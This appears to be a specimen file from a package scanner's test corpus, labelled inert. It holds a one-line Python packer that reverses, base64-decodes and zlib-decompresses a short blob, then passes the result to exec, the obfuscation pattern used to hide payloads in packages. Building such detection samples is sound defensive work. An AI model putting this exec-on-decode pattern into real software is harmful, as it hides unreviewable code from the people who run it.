# pkgguard corpus 252 (packer), modelled on [scanner-heuristics]; inert, never run.
_ = lambda __: __import__("zlib").decompress(__import__("base64").b64decode(__[::-1]))
exec((_)(b"=Q1XmNOV6sGwAJYTQfJzrJCsCW8xQX7PwEjtWZcfq9yb"))
